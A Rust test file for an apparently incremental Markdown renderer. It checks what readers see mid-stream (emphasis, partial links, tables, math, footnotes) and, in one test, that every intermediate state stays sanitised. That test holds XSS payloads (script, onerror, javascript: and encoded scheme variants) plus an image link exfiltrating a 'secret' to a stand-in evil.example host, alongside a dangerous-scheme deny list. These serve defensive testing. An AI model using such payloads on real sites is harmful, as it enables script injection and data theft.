//! What the reader sees mid-stream: the intermediate DOM after each prefix of the answer (README "Speculative
//! rendering"), and safety at every intermediate state.
// Native tests: the wasm32 build of the test suite runs only the browser files (tests/web*.rs).
#![cfg(not(target_arch = "wasm32"))]

use rillmark::markdown::render::{SAFE_ATTRS, SAFE_TAGS};
use rillmark::markdown::IncrementalMarkdown;
use rillmark::options::RenderOptions;
use rillmark::patch::diff::IdAllocator;
use rillmark::patch::recorder::HtmlRecorder;
use rillmark::patch::{Node, PatchSink, ROOT};

/// Streams `pieces` (rendering after each) and returns the HTML shown after each piece.
fn frames(pieces: &[&str], opts: &RenderOptions) -> Vec<String> {
    let mut engine = IncrementalMarkdown::new(opts.clone(), ROOT);
    let (mut ids, mut ops, mut recorder) = (IdAllocator::default(), Vec::new(), HtmlRecorder::new());
    pieces
        .iter()
        .map(|piece| {
            engine.push(piece);
            engine.render(&mut ids, &mut ops);
            recorder.apply(&ops);
            ops.clear();
            assert!(recorder.violations().is_empty(), "ops should be valid: {:?}", recorder.violations());
            recorder.html()
        })
        .collect()
}

/// The HTML shown once `text` has arrived (after any earlier text, rendered as one frame).
#[track_caller]
fn shown(text: &str) -> String {
    frames(&[text], &RenderOptions::default()).pop().unwrap_or_default()
}

#[test]
fn open_emphasis_and_code_render_at_once() {
    assert_eq!(shown("Some **bo"), "<p>Some <strong>bo</strong></p>\n", "`**bo` should render bold at once");
    assert_eq!(shown("Some `co"), "<p>Some <code>co</code></p>\n", "`` `co `` should render code at once");
    assert_eq!(shown("a ~~gone"), "<p>a <del>gone</del></p>\n", "`~~` should render struck at once");
    assert_eq!(shown("Hello **"), "<p>Hello</p>\n", "a bare opener should not flash as `**`");
}

#[test]
fn intraword_underscores_never_flash_emphasis() {
    for prefix in ["snake_", "snake_case", "snake_case_", "snake_case_name"] {
        assert!(!shown(prefix).contains("<em>"), "{prefix:?} should not render emphasis");
    }
}

#[test]
fn an_open_fence_renders_a_code_block_with_its_language() {
    let html = shown("Intro\n\n```rust\nfn main() {");
    assert!(
        html.contains("<pre><code class=\"language-rust\">fn main() {</code></pre>"),
        "an open fence should show a code block with its language class: {html}"
    );
    let html = shown("```\ncode\n``");
    assert!(!html.contains("``"), "a partial closing fence should not show as code text: {html}");
}

#[test]
fn partial_links_are_pending_and_never_clickable() {
    for (prefix, text) in [("see [docs", "docs"), ("see [docs]", "docs"), ("see [docs](http://exa", "docs")] {
        let html = shown(prefix);
        assert!(
            html.contains(&format!("<span class=\"rillmark-pending\">{text}</span>")),
            "{prefix:?} should show a pending span: {html}"
        );
        assert!(!html.contains("href"), "{prefix:?} should have no href: {html}");
    }
    let html = shown("visit https://exa");
    assert!(!html.contains("href"), "a partial bare URL should not become an autolink: {html}");
    let html = shown("visit https://example.com now");
    assert!(html.contains("href=\"https://example.com\""), "a finished bare URL should autolink: {html}");
}

#[test]
fn bracketed_numbers_are_never_committed_as_links() {
    let steps = frames(&["Values [0]", " and Array [1]", " end.\n\nNext.\n"], &RenderOptions::default());
    for html in &steps[1..] {
        assert!(!html.contains("<a"), "`[0]` and `[1]` followed by text should stay text: {html}");
    }
    assert!(steps[2].contains("[0]") && steps[2].contains("[1]"), "the brackets should be shown: {}", steps[2]);
}

#[test]
fn partial_images_show_a_placeholder_and_fetch_nothing() {
    for opts in [RenderOptions::default(), RenderOptions { trusted: true, ..RenderOptions::default() }] {
        let html = frames(&["![a chart](http://par"], &opts).pop().unwrap_or_default();
        assert!(html.contains("rillmark-image rillmark-pending"), "should show a pending placeholder: {html}");
        assert!(!html.contains("<img") && !html.contains("http://par"), "should reference no URL: {html}");
    }
}

#[test]
fn table_rows_appear_whole_with_no_phantom_rows() {
    let opts = RenderOptions::default();
    let steps = frames(&["| a | b |\n", "|---|", "---|\n", "| 1 |", " 2 |\n", "| 3 | 4 |\n"], &opts);
    assert_eq!(steps[0], "", "a header row should wait for its delimiter row");
    assert_eq!(steps[1], "", "a partial delimiter row should keep the header waiting");
    assert!(steps[2].contains("<th>a</th>") && !steps[2].contains("<tbody>"), "the header should appear alone");
    assert!(!steps[3].contains("<td>"), "a partial row should not appear (no padded cells): {}", steps[3]);
    assert!(steps[4].contains("<td>1</td>\n<td>2</td>"), "a complete row should appear: {}", steps[4]);
    assert_eq!(steps[5].matches("<tr>").count(), 3, "header and two rows, nothing more: {}", steps[5]);
}

#[test]
fn a_pipe_line_shown_while_typed_stays_shown_until_the_delimiter_row_decides() {
    let opts = RenderOptions::default();
    let steps = frames(&["cats | dogs", "\n", "--", "-|--", "-\n", "| 1 | 2 |\n"], &opts);
    assert_eq!(steps[0], "<p>cats | dogs</p>\n", "a line without a leading pipe should show as text while typed");
    assert_eq!(steps[1], "<p>cats | dogs</p>\n", "its line break should not hide it (shown words never vanish)");
    assert_eq!(steps[2], "<p>cats | dogs</p>\n", "a partial delimiter row should not make it a setext heading");
    assert_eq!(steps[3], "<p>cats | dogs</p>\n", "a partial delimiter row should wait for its line");
    assert!(
        steps[4].contains("<th>cats</th>") && steps[4].contains("<th>dogs</th>"),
        "the delimiter row makes it a header: {}",
        steps[4]
    );
    assert!(steps[5].contains("<td>1</td>"), "rows follow: {}", steps[5]);
    let prose = frames(&["Use a | b to pipe", "\n", "Next line.\n"], &opts);
    assert!(
        prose.iter().all(|html| html.contains("Use a | b to pipe")),
        "prose with a pipe should never vanish: {prose:?}"
    );
}

#[test]
fn setext_underlines_and_block_markers_wait_for_their_line() {
    assert_eq!(shown("Title\n-"), "<p>Title</p>\n", "`Title\\n-` should not flash a heading");
    assert_eq!(shown("Title\n="), "<p>Title</p>\n", "`Title\\n=` should not flash a heading");
    assert_eq!(shown("Title\n---\n"), "<h2>Title</h2>\n", "a finished underline makes the heading");
    assert_eq!(shown("para\n\n-"), "<p>para</p>\n", "a lone `-` should not flash an empty list item");
    assert_eq!(shown("para\n\n#"), "<p>para</p>\n", "a lone `#` should not flash an empty heading");
}

#[test]
fn wrong_speculation_is_fixed_with_a_minimal_patch() {
    let opts = RenderOptions::default();
    let mut engine = IncrementalMarkdown::new(opts, ROOT);
    let (mut ids, mut ops) = (IdAllocator::default(), Vec::new());
    engine.push("# Done\n\nText with [link");
    engine.render(&mut ids, &mut ops);
    ops.clear();
    engine.push("] in brackets.");
    engine.render(&mut ids, &mut ops);
    let created = ops.iter().filter(|op| format!("{op:?}").starts_with("Create")).count();
    assert!(created <= 2, "un-speculating a link should touch only the paragraph's inline nodes: {ops:?}");
}

/// Everything in the tree is allowlisted and no URL is dangerous.
#[track_caller]
fn assert_safe(nodes: &[Node], context: &str) {
    for node in nodes {
        if let Node::Element(el) = node {
            assert!(SAFE_TAGS.contains(&el.tag), "{context}: tag <{}> should not exist", el.tag);
            assert_ne!(el.tag, "img", "{context}: no image should be loaded by default");
            for (name, value) in &el.attrs {
                assert!(SAFE_ATTRS.contains(name), "{context}: attribute {name} should not exist");
                if *name == "href" || *name == "src" {
                    let lower = value.to_ascii_lowercase();
                    for scheme in ["javascript:", "vbscript:", "data:", "file:"] {
                        assert!(!lower.contains(scheme), "{context}: {name}={value:?} should be refused");
                    }
                }
            }
            assert_safe(&el.children, context);
        } else if let Node::RawHtml(html) = node {
            panic!("{context}: raw HTML {html:?} should never be emitted in safe mode");
        }
    }
}

#[test]
fn every_intermediate_state_is_safe() {
    let corpus = [
        "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src=\"https://evil\"></iframe>\n",
        "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>\n",
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:x) [d](&#106;avascript:x)\n",
        "[e](%6Aavascript:alert(1)) [f](vbscript:msgbox) [g](data:text/html;base64,PHNjcmlwdD4=)\n",
        "<javascript:alert(1)> [ref]\n\n[ref]: javascript:alert(1)\n",
        "![exfil](https://evil.example/leak?q=secret) ![x][img]\n\n[img]: https://evil.example/x.png\n",
        "<div onclick=\"x()\">\n*unclosed tag split <scr",
        "ipt>alert(1)</script> more\n",
    ];
    let text: String = corpus.concat();
    let mut engine = IncrementalMarkdown::new(RenderOptions::default(), ROOT);
    let (mut ids, mut ops, mut recorder) = (IdAllocator::default(), Vec::new(), HtmlRecorder::new());
    for (index, ch) in text.char_indices() {
        engine.push(&text[index..index + ch.len_utf8()]);
        engine.render(&mut ids, &mut ops);
        recorder.apply(&ops);
        ops.clear();
        assert_safe(&recorder.root_nodes(), &format!("after {} bytes", index + ch.len_utf8()));
    }
    engine.finish(&mut ids, &mut ops);
    recorder.apply(&ops);
    assert_safe(&recorder.root_nodes(), "at the end");
    assert!(recorder.html().contains("&lt;script&gt;"), "raw HTML should be shown as text");
}

#[test]
fn open_math_never_swallows_later_blocks() {
    let steps = frames(&["Here: $$\\int_0^1", " x\\,dx\n\n", "Next paragraph.\n\n- item\n"], &RenderOptions::default());
    assert!(steps[2].contains("<p>Next paragraph.</p>"), "a block after open math should render: {}", steps[2]);
    assert!(steps[2].contains("<li>item</li>"), "a list after open math should render: {}", steps[2]);
    let done = frames(&["Euler $e^{i\\pi}=-1$ done.\n"], &RenderOptions::default()).pop().unwrap_or_default();
    assert!(done.contains("data-math-style=\"inline\""), "closed math should be a math element: {done}");
}

#[test]
fn display_math_appears_whole_when_it_closes() {
    let steps = frames(&["Sum:\n\n$$\n\\sum_{k", "=0}^n k\n", "$$\n"], &RenderOptions::default());
    for (i, step) in steps[..2].iter().enumerate() {
        assert!(!step.contains("sum") && !step.contains("$$"), "half a formula should not show (step {i}): {step}");
        assert!(step.contains("<p>Sum:</p>"), "the text before it should (step {i}): {step}");
    }
    assert!(steps[2].contains("data-math-style=\"display\""), "closed, it is a math element: {}", steps[2]);
}

#[test]
fn footnote_references_and_definition_lines_appear_whole() {
    let steps = frames(
        &["A claim.[^no", "te]", " more.\n\n[^no", "te]: The source", ".\n\nNext.\n"],
        &RenderOptions::default(),
    );
    assert!(!steps[0].contains("^no") && !steps[1].contains("note"), "a half reference shows nothing: {steps:?}");
    assert!(steps[2].contains("A claim.[^note] more."), "whole, before its definition, it is text: {}", steps[2]);
    assert!(!steps[3].contains("The source") && !steps[3].contains("]:"), "a half definition line: {}", steps[3]);
    assert!(steps[4].contains("class=\"footnote-ref\""), "then the reference: {}", steps[4]);
}
